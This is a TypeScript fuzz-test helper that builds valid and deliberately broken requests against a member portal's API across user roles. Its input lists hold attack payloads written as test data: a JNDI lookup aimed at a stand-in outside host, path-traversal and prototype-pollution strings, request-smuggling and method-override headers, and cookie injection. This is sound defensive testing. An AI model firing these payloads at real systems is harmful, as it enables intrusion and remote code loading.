import { calls, type NamedCall } from '@portal/contract/openapi'
import type { InjectOptions } from 'fastify'
import { verificationLink } from '../src/features/account/verification-link.ts'
import type { CurrentMember } from '../src/http/current-member.ts'
import { insertInvitation } from '../src/features/invitations/store.ts'
import { randomToken, tokenHash } from '../src/http/random-token.ts'
import { rememberCookie, sessionCookie } from '../src/http/session.ts'
import { createSession } from '../src/http/session-store.ts'
import { createBodies, type Wrong } from './generated-bodies.ts'
import type { TestPortal } from './portal.ts'
import type { RandomChoices } from './random-choices.ts'

const brokenParts = [
  '0',
  '-1',
  '1.5',
  '1e3',
  'abc',
  '99999999999999999999',
  '%00',
  '%ff',
  '%',
  'é',
  '%20',
  '%c0%af',
  '%ed%a0%80',
  '..%2f..',
  '%5c',
  '__proto__',
  '[]',
  'a'.repeat(300),
  'a'.repeat(15_000),
]
const brokenQueries = [
  '',
  '0',
  '-1',
  'x',
  '2',
  '1e400',
  '9'.repeat(40),
  '%00',
  '%ff',
  '%',
  'a'.repeat(256),
  '%C3%A9',
  '%5B%5D',
  '__proto__',
  '%26%23%00',
  '2&page=3',
  'a'.repeat(14_000),
]
// What parsers of other frameworks read as a list or an object.
const suffixes = ['', '', '', '[]', '[0]', '[a][b]', '[__proto__]', '%5B%5D', '.x', '%00', '%']
const tokens = ['', 'x', 'a'.repeat(43), '%00']

// After these a session may have ended.
const sessionEnds = new Set(['logIn', 'logOut', 'registerAccount', 'updateProfile', 'updatePassword', 'updateMember'])

export const roles = ['guest', 'unverified', 'member', 'admin'] as const
export type Role = (typeof roles)[number]

type Cookies = Record<string, string>

export type GeneratedRequest = {
  role: Role
  wrong: ReadonlySet<Wrong>
  sent: InjectOptions & { method: string; url: string }
}

/** Makes requests for the calls of the contract, valid and broken, in a portal that it fills, from so many callers. */
export async function createRequests(portal: TestPortal, choices: RandomChoices, callers: number) {
  const { create, db, deps } = portal
  const { upTo, oneOf, onceIn } = choices
  const wrong = new Set<Wrong>()
  const bodies = createBodies(choices, (kind) => wrong.add(kind))
  const member = await create.member()
  const people: Record<Role, CurrentMember | null> = {
    guest: null,
    unverified: await create.unverifiedMember(),
    member,
    admin: await create.admin(),
  }
  const toVerify = await create.unverifiedMember()
  const product = await create.product()
  const { url_slug: news } = await create.news()
  const { url_slug: promotion } = await create.promotion()
  await Promise.all([create.image(), create.download(), create.video()])
  await create.registration({ member_id: member.id, product_id: product.id })
  const invite = (email: string) => insertInvitation(db, { email, roles: ['lezer'] }, randomToken())
  const invited = await invite('daan@leverancier.example')
  const withdrawn = await invite('noor@leverancier.example')
  const [registration] = await db.query<{ id: number }>('select id from registrations')
  // For each call an article of its own: what one deletes, another still finds.
  const articleIds = new Map<string, number>()
  for (const { name, endpoint } of calls.filter(({ feature }) => feature === 'articles')) {
    const { id } = await (endpoint.path.includes('/news/') ? create.news() : create.promotion())
    articleIds.set(name, id)
    if (name.startsWith('delete')) await db.query('delete from article_publications where content_id = $1', [id])
    if (/^restore(News|Promotion)$/.test(name))
      await db.query('update content set deleted_at = now() where id = $1', [id])
  }
  const newKey = () => `key-${upTo(2 ** 31)}`
  const keys = Array.from({ length: 5 }, newKey)

  /** One time in so many, which is noted. */
  function goesWrong(kind: Wrong, times: number): boolean {
    const goes = onceIn(times)
    if (goes) wrong.add(kind)
    return goes
  }

  const kept = new Map<Role, Cookies>()

  /** A session of somebody in this role. */
  async function cookiesOf(role: Role): Promise<Cookies> {
    const { id, csrfToken } = await createSession(db, null)
    const who = people[role]
    const proven = `factor_proven_at = now() + interval '1 hour'`
    if (who) await db.query(`update sessions set member_id = $1, ${proven} where id_hash = $2`, [who.id, tokenHash(id)])
    const cookies = { [sessionCookie]: id, 'XSRF-TOKEN': csrfToken }
    kept.set(role, cookies)
    return cookies
  }

  function whoMayCall({ endpoint: { access } }: NamedCall): Role {
    if (access === 'guest') return 'guest'
    return Array.isArray(access) || onceIn(8) ? 'admin' : 'member'
  }

  function pathFor({ name, endpoint }: NamedCall): string {
    // Roles go to somebody who makes no call: sessions end with the change.
    const ids: Record<string, number> = {
      getRegistration: registration!.id,
      updateMemberRoles: toVerify.id,
      deleteInvitation: withdrawn.id,
      resendInvitation: invited.id,
    }
    const id = ids[name] ?? articleIds.get(name) ?? member.id
    const good = { id, key: oneOf(keys), slug: name === 'getPromotion' ? promotion : news, hash: 'abc', number: 1 }
    const path = oneOf([endpoint.path, ...(endpoint.aliases ?? [])])
    return path.replace(/:(\w+)/g, (_, part: keyof typeof good) =>
      goesWrong('path', 3) ? oneOf(brokenParts) : String(good[part]),
    )
  }

  function queryFor({ endpoint: { query } }: NamedCall): string {
    const known = Object.keys(query?.shape ?? {})
    const fields = onceIn(8) ? [...known, 'onbekend', 'page', '__proto__'] : known
    const pairs = fields.flatMap((field) => {
      if (onceIn(2)) return []
      return goesWrong('query', 2) ? [`${field}${oneOf(suffixes)}=${oneOf(brokenQueries)}`] : [`${field}=1`]
    })
    return pairs.length > 0 ? `?${pairs.join(oneOf(['&', '&', '&', '&&', ';']))}` : ''
  }

  function urlFor(call: NamedCall): string {
    if (call.name !== 'verifyEmail' || onceIn(4)) return pathFor(call) + queryFor(call)
    const link = verificationLink(deps.linkSigner, toVerify).replace(portal.config.appUrl, '')
    return goesWrong('query', 3) ? link.slice(0, -1 - upTo(80)) : link
  }

  function headersFor({ endpoint: { method, idempotency } }: NamedCall, csrfToken: string): Record<string, string> {
    const key = onceIn(2) ? oneOf([...keys, '', ' ', 'x'.repeat(201), 'é']) : newKey()
    return {
      ...(method !== 'GET' && { 'x-xsrf-token': csrfToken }),
      ...(method !== 'GET' && goesWrong('token', 12) && { 'x-xsrf-token': oneOf(tokens) }),
      ...((idempotency || onceIn(20)) && !onceIn(8) && { 'idempotency-key': key }),
      ...(onceIn(3) && { accept: oneOf(['application/json', 'text/html', '*/*', 'image/png', 'onzin']) }),
      ...(onceIn(12) && { origin: oneOf([portal.config.frontendUrl, 'https://elders.example', 'null', '\xff']) }),
      ...(goesWrong('headers', 6) && oneOf(oddHeaders)),
    }
  }

  function cookieHeader(cookies: Cookies, others: Cookies): string {
    const sent = Object.entries(cookies).map(([name, value]) => `${name}=${value}`)
    if (!goesWrong('cookies', 12)) return sent.join('; ')
    return oneOf([
      sent.slice(1),
      [...sent, `${sessionCookie}=${oneOf(tokens)}`],
      [...sent, `${rememberCookie}=${oneOf(tokens)}`],
      // Planted by a sibling host.
      [`${sessionCookie}=${others[sessionCookie]}`, ...sent],
      ['=', ';;', '__proto__=1', 'a', sessionCookie, '%=%ff', ...sent],
      [`x="${'y'.repeat(14_000)}`, ...sent],
    ]).join(oneOf(['; ', '; ', ';', ',']))
  }

  /** A request for this call by somebody in this role; without one, by somebody who may make it. */
  return async function next(call: NamedCall, role = whoMayCall(call)): Promise<GeneratedRequest> {
    wrong.clear()
    const { method } = call.endpoint
    if (sessionEnds.has(call.name)) kept.clear()
    const cookies = kept.get(role) ?? (await cookiesOf(role))
    const others = kept.get('member') ?? (await cookiesOf('member'))
    const body = bodies(call, { productId: product.id })
    const isSent = method !== 'GET' || goesWrong('bytes', 20)
    // Without a body what is wrong with it was never sent.
    if (!isSent) wrong.clear()
    const sent = {
      method: goesWrong('method', 60) ? oneOf(otherMethods) : method,
      url: urlFor(call),
      headers: {
        cookie: cookieHeader(cookies, others),
        ...headersFor(call, cookies['XSRF-TOKEN'] ?? ''),
        ...(isSent && body.headers),
      },
      ...(isSent && { payload: body.payload }),
      // Callers enough to come further than the limits, and few enough to meet them.
      remoteAddress: `192.0.2.${upTo(callers)}`,
    } as GeneratedRequest['sent']
    return { role, wrong: new Set(wrong), sent }
  }
}

const otherMethods = ['HEAD', 'OPTIONS', 'PATCH', 'DELETE', 'TRACE', 'GET', 'PUT', 'POST', 'PROPFIND']

const oddHeaders: Record<string, string>[] = [
  { 'x-requested-with': 'XMLHttpRequest' },
  { 'accept-encoding': 'br', range: 'bytes=0-1', 'if-none-match': '*' },
  { range: 'bytes=9-1,-', 'if-range': '"x', 'if-modified-since': 'gisteren', 'if-match': '' },
  { 'accept-encoding': 'gzip;q=x, *;q=-1', 'accept-language': '*;q=1e9', accept: ',;q=' },
  { 'x-forwarded-for': '1.2.3.4', 'x-forwarded-host': 'elders.example' },
  {
    'x-forwarded-for': `onzin, ::ffff:1, [::1, ${'1,'.repeat(2_000)}`,
    'x-forwarded-proto': 'javascript',
    forwarded: 'for="',
  },
  { host: 'elders.example:x' },
  { host: '' },
  { referer: 'http://[', 'sec-fetch-site': 'cross-site' },
  { referer: `https://elders.example/${'a'.repeat(14_000)}` },
  { 'user-agent': `\xff\xfe${'x'.repeat(14_000)}` },
  { 'content-length': '99999999999' },
  { 'content-length': '5' },
  { 'content-length': 'onzin' },
  { 'transfer-encoding': 'gzip, chunked' },
  { 'x-http-method-override': 'DELETE', 'x-original-url': '/api/users', 'x-rewrite-url': '/api/users' },
  { expect: '200-ok', te: 'trailers', upgrade: 'h2c', connection: 'upgrade, x-xsrf-token' },
  { authorization: 'Bearer \xff', 'x-request-id': '\x7f${jndi:ldap://elders.example}' },
  { 'access-control-request-method': 'DELETE', 'access-control-request-headers': '\xff' },
  Object.fromEntries(Array.from({ length: 100 }, (_, index) => [`x-${index}`, 'y'.repeat(100)])),
]
